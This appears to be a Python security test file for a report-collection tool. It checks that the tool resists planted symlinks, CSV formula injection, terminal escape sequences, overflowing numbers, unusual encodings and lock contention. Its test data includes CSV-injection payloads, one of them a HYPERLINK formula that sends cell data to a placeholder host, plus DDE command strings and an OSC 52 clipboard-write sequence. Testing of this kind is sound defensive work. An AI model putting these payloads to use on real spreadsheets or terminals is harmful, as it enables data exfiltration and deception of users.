#!/usr/bin/python3
"""apmoff-collect against strangers' files, round two: what it writes and prints, and
what it takes in. No file written through a link planted in a shared folder; no CSV
cell a spreadsheet runs; no control character from a report on a terminal, by any
path; numbers past a double refused; any file name, a JSON file with a byte order
mark and a log saved as UTF-16 read; a second `add` that waits for the first, or
names the files it did not import.

    python3 -m tests.collect.test_output [-v] [--tap] [-k PATTERN]
"""

import csv
import json
import os
import pty
import select
import sqlite3
import subprocess
import sys
import time

from tests.collect.harness import Tmp, main, run, variant
from tests.collect.test_collect import FIXTURES, TOOL, read
from tools.apmoff_collect import database


def reports(db):
    conn = database.connect(db)
    try:
        return database.reports(conn)
    finally:
        conn.close()


# --- files written -----------------------------------------------------------------------

class PlantedLinks(Tmp):
    """A shared report folder in which someone planted links where the program
    writes: the links' targets stay as they were, and the program's files are files."""

    def plant(self, link, target):
        with open(target, "w") as f:
            f.write("precious\n")
        os.symlink(target, link)

    def assertUntouched(self, *targets):
        for target in targets:
            self.assertEqual(read(target), "precious\n", target)

    def test_report_writes_no_page_through_a_link(self):
        self.assertEqual(run(self.db, "add", self.good()).returncode, 0)
        html = self.path("html")
        os.mkdir(html)
        names = ("index.html.tmp", "machine-1.html.tmp", "index.html")
        for i, name in enumerate(names):
            self.plant(os.path.join(html, name), self.path("victim%d" % i))
        r = run(self.db, "report", html)
        self.assertEqual(r.returncode, 0, r)
        self.assertUntouched(*[self.path("victim%d" % i) for i in range(len(names))])
        for name in ("index.html", "machine-1.html"):
            path = os.path.join(html, name)
            self.assertFalse(os.path.islink(path), name)
            self.assertIn("<!DOCTYPE html>", read(path))
            self.assertEqual(os.stat(path).st_mode & 0o777, 0o666 & ~umask())
        self.assertEqual(sorted(os.listdir(html)), sorted(names[:2] + (
            "index.html", "machine-1.html")))           # nothing else left behind

    def test_csv_output_is_not_written_through_a_link(self):
        self.assertEqual(run(self.db, "add", self.good()).returncode, 0)
        out = self.path("reports.csv")
        self.plant(out, self.path("victim"))
        r = run(self.db, "csv", "-o", out)
        self.assertEqual(r.returncode, 0, r)
        self.assertUntouched(self.path("victim"))
        self.assertFalse(os.path.islink(out))
        self.assertTrue(read(out).startswith("report_id,"))


def umask():
    mask = os.umask(0o022)
    os.umask(mask)
    return mask


# --- CSV cells ------------------------------------------------------------------------

# Cells a spreadsheet would run (OWASP, "CSV Injection"), one in each free-text field.
FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\t@SUM(1)"]


class Spreadsheets(Tmp):
    def test_no_cell_starts_a_formula(self):
        surveys = [variant(label=f, smbios__product=f, chipset__name=f,
                           bios__strings=[f], smbios__manufacturer="m%d" % i)
                   for i, f in enumerate(FORMULAS)]
        names = []
        for i, survey in enumerate(surveys):
            names.append("=HYPERLINK(%d).json" % i)       # the source column too
            self.file(names[-1], json.dumps(survey))
        r = run(self.db, "add", *names, cwd=self.dir)
        self.assertEqual(r.returncode, 0, r)
        r = run(self.db, "csv", "-o", self.path("reports.csv"))
        self.assertEqual(r.returncode, 0, r)
        with open(self.path("reports.csv"), newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
        self.assertEqual(len(rows), len(FORMULAS))
        for row in rows:
            for column, cell in row.items():
                self.assertFalse(cell.startswith(("=", "+", "-", "@", "\t", "\r")),
                                 "%s: %r" % (column, cell))
        self.assertEqual(rows[0]["label"], "'" + FORMULAS[0])
        self.assertEqual(rows[0]["source"], "'=HYPERLINK(0).json")
        self.assertEqual(rows[4]["label"], "\\u0009=1+1")    # a tab, escaped
        # The JSON columns stay JSON, the same values.
        self.assertEqual(json.loads(rows[4]["survey_json"])["label"], FORMULAS[4])


# --- the terminal ----------------------------------------------------------------------

# What a report may send a terminal: a window title, a clipboard write (OSC 52), a
# screen clear, a C1 CSI, a right-to-left override, a line of its own.
SEQUENCES = "\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2J\x9b31m\u202e\nfake"


def raw_controls(text):
    """The characters of output that a terminal acts on, but the line ends."""
    return sorted({c for c in text if not c.isprintable() and c != "\n"})


class Terminal(Tmp):
    def add_hostile(self, **changes):
        survey = variant(label="L" + SEQUENCES, smbios__product=SEQUENCES,
                         chipset__name=SEQUENCES, apm__interfaces__rm__connect=SEQUENCES,
                         **changes)
        name = self.file("x" + SEQUENCES.replace("\n", "") + ".json", json.dumps(survey))
        r = run(self.db, "add", "--no-prompt", name)
        self.assertEqual(r.returncode, 0, r)
        self.assertEqual(raw_controls(r.stdout + r.stderr), [], r)
        return r

    def test_every_command_escapes_what_a_report_holds(self):
        self.add_hostile()
        for command in (["csv"], ["list", "-r"], ["report", self.path("html")],
                        ["set-outcome", "1", "off"], ["remove", "1"], ["--help"],
                        ["add", "--help"]):
            r = run(self.db, *command)
            self.assertEqual(r.returncode, 0, "%s: %s" % (command, r))
            self.assertEqual(raw_controls(r.stdout + r.stderr), [], command)
        # A file name that looks like an option, quoted by the command line's error.
        r = run(self.db, "list", "-" + SEQUENCES)
        self.assertEqual(r.returncode, 2, r)
        self.assertEqual(raw_controls(r.stdout + r.stderr), [], r)

    def test_the_outcome_question_escapes_what_a_report_holds(self):
        # A JSON file of a survey,off run: whether it went off only a person can say,
        # and the program asks on the terminal, naming the machine by its label.
        survey = variant(label="L" + SEQUENCES, options="action=survey,off")
        name = self.file("asked.json", json.dumps(survey))
        pid, fd = pty.fork()
        if pid == 0:
            os.execv(sys.executable, [sys.executable, TOOL, "--db", self.db, "add", name])
        try:
            said = read_until(fd, b"Did the machine power off?")
            os.write(fd, b"off\n")
            said += read_until(fd, None)
        finally:
            _, status = os.waitpid(pid, 0)
        text = said.decode("utf-8", "replace")
        self.assertIn("Did the machine power off?", text)
        self.assertIn("L\\x1b]0;owned\\x07", text)
        self.assertEqual(raw_controls(text.replace("\r", "")), [], text)
        self.assertEqual(os.waitstatus_to_exitcode(status), 0, text)
        self.assertEqual([(r["outcome"], r["outcome_source"]) for r in reports(self.db)],
                         [("off", "person")])


def read_until(fd, marker, seconds=120):
    """What a pseudo-terminal says up to `marker` (None: to its end). The time only
    stops a wait that would never end."""
    out = b""
    deadline = time.monotonic() + seconds
    while marker is None or marker not in out:
        if not select.select([fd], [], [], max(0, deadline - time.monotonic()))[0]:
            raise AssertionError("the program said %r, then nothing" % out[-500:])
        try:
            chunk = os.read(fd, 4096)
        except OSError:                       # EIO: the program ended
            chunk = b""
        if not chunk:
            if marker is None:
                return out
            raise AssertionError("the program ended after %r" % out[-500:])
        out += chunk
    return out


def wait_until_open(pid, path, seconds=120):
    """Returns once process pid has `path` open (its /proc/PID/fd). The time only
    stops a wait that would never end."""
    deadline = time.monotonic() + seconds
    folder = "/proc/%d/fd" % pid
    while time.monotonic() < deadline:
        for fd in os.listdir(folder):
            try:
                if os.readlink(os.path.join(folder, fd)) == path:
                    return
            except OSError:
                pass                            # closed meanwhile
        time.sleep(0.01)
    raise AssertionError("process %d never opened %s" % (pid, path))


# --- numbers, names, encodings ------------------------------------------------------------

class Numbers(Tmp):
    def test_numbers_past_a_double_are_refused(self):
        # In fields the schema does not type (the kernel adds fields), where nothing
        # else would refuse them.
        for name, text in (("big.json", '{"schema":1,"cpu":{"later":1e309}}'),
                           ("small.json", '{"schema":1,"x":-1e309}'),
                           ("big.log", 'apmoff: survey {"schema":1,"x":[1E400]}\n')):
            r = run(self.db, "add", self.file(name, text), self.good())
            self.assertRefused(r, name, "is not a number JSON allows")
            self.assertNotIn("Infinity", "".join(str(x["survey_json"])
                                                 for x in reports(self.db)))
            os.unlink(self.db)


class Names(Tmp):
    def test_a_file_name_that_is_not_utf8(self):
        # Latin-1 "café.log", as an old Windows share or a USB stick may name it.
        name = os.path.join(os.fsencode(self.dir), b"caf\xe9.log")
        with open(name, "w") as f:
            f.write(read(self.good()))
        r = run(self.db, "add", os.fsdecode(name))
        self.assertEqual(r.returncode, 0, r)
        self.assertIn("caf\\xe9.log: 1 added", r.stdout)
        [stored] = reports(self.db)
        self.assertEqual(stored["source"], os.path.join(self.dir, "caf\\xe9.log"))
        r = run(self.db, "list", "-r")
        self.assertIn("caf\\xe9.log", r.stdout)

    def test_a_json_file_with_a_byte_order_mark(self):
        # Windows' Notepad saves UTF-8 with one.
        path = self.path("notepad.json")
        with open(path, "w", encoding="utf-8-sig") as f:
            f.write(json.dumps(variant(label="caf\u00e9")))
        r = run(self.db, "add", path)
        self.assertEqual(r.returncode, 0, r)
        self.assertEqual(reports(self.db)[0]["survey"]["label"], "caf\u00e9")

    def test_a_serial_log_saved_as_utf16(self):
        # PowerShell 5's `>`: UTF-16 LE with its byte order mark and CR LF; big endian
        # too. Each is the same report as the log itself.
        for encoding in ("utf-16", "utf-16-be"):
            path = self.path("powershell-%s.log" % encoding)
            with open(path, "w", encoding=encoding, newline="\r\n") as f:
                if encoding == "utf-16-be":
                    f.write("\ufeff")
                f.write(read(self.good()))
            r = run(self.db, "add", path)
            self.assertEqual(r.returncode, 0, r)
        r = run(self.db, "add", self.good())
        self.assertIn("0 added, 1 already there", r.stdout)
        self.assertEqual(len(reports(self.db)), 1)


# --- two adds at once -----------------------------------------------------------------

class Concurrent(Tmp):
    """Another program (here the test) holds the database's write lock, as an `add`
    importing a large capture does for the whole file."""

    def lock(self):
        conn = sqlite3.connect(self.db, isolation_level=None)
        conn.execute("BEGIN IMMEDIATE")
        return conn

    def start(self, *args):
        return subprocess.Popen([sys.executable, TOOL, "--db", self.db] + list(args),
                                stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)

    def test_a_second_add_waits_for_the_first(self):
        self.assertEqual(run(self.db, "add", os.path.join(FIXTURES, "off.log")).returncode,
                         0)
        holder = self.lock()
        try:
            proc = self.start("add", self.good())
            said = read_until(proc.stderr.fileno(), b"waiting for ")
        finally:
            holder.execute("ROLLBACK")       # the other program is done
            holder.close()
        out, err = proc.communicate(timeout=120)
        self.assertEqual(proc.returncode, 0, said + err)
        self.assertIn(b"another program is writing to it", said)
        self.assertIn(b"1 reports added", out)

    def test_a_lock_held_past_the_wait_names_each_file_not_imported(self):
        # The first file goes in; the lock is taken while the program waits for the
        # second (a FIFO the test writes when it sees the first file's line, and
        # closes once the program has it open, so the program reads it to its end);
        # the lock outlasts --wait: the second and third are named, exit 1, the
        # first stays.
        fifo = self.path("second.log")
        os.mkfifo(fifo)
        writer = os.open(fifo, os.O_RDWR)
        third = self.file("third.log", read(os.path.join(FIXTURES, "off.log")))
        proc = self.start("add", "--wait", "2", self.good(), fifo, third)
        holder = None
        try:
            read_until(proc.stdout.fileno(), b"[1/3]")
            holder = self.lock()
            os.write(writer, read(os.path.join(FIXTURES, "survey.log")).encode())
            wait_until_open(proc.pid, fifo)
            os.close(writer)
            writer = None
            out, err = proc.communicate(timeout=120)
        finally:
            if writer is not None:
                os.close(writer)
            if holder:
                holder.execute("ROLLBACK")
                holder.close()
        err = err.decode()
        self.assertEqual(proc.returncode, 1, err)
        for name in ("second.log", "third.log"):
            self.assertRegex(err, r"skipped \S*%s: not imported: \S+: locked by another "
                                  r"program for 2 s" % name)
        self.assertIn(b"1 reports added", out)
        self.assertEqual([os.path.basename(r["source"]) for r in reports(self.db)],
                         ["failed.log"])

    def test_a_lock_held_from_the_start_writes_nothing(self):
        self.assertEqual(run(self.db, "add", os.path.join(FIXTURES, "off.log")).returncode,
                         0)
        holder = self.lock()
        try:
            r = run(self.db, "add", "--wait", "2", self.good(),
                    os.path.join(FIXTURES, "survey.log"))
        finally:
            holder.execute("ROLLBACK")
            holder.close()
        self.assertEqual(r.returncode, 2, r)
        self.assertIn("locked by another program", r.stderr)
        self.assertEqual(len(r.stderr.strip().splitlines()), 2, r)   # waiting; locked
        self.assertEqual(len(reports(self.db)), 1)


if __name__ == "__main__":
    main()
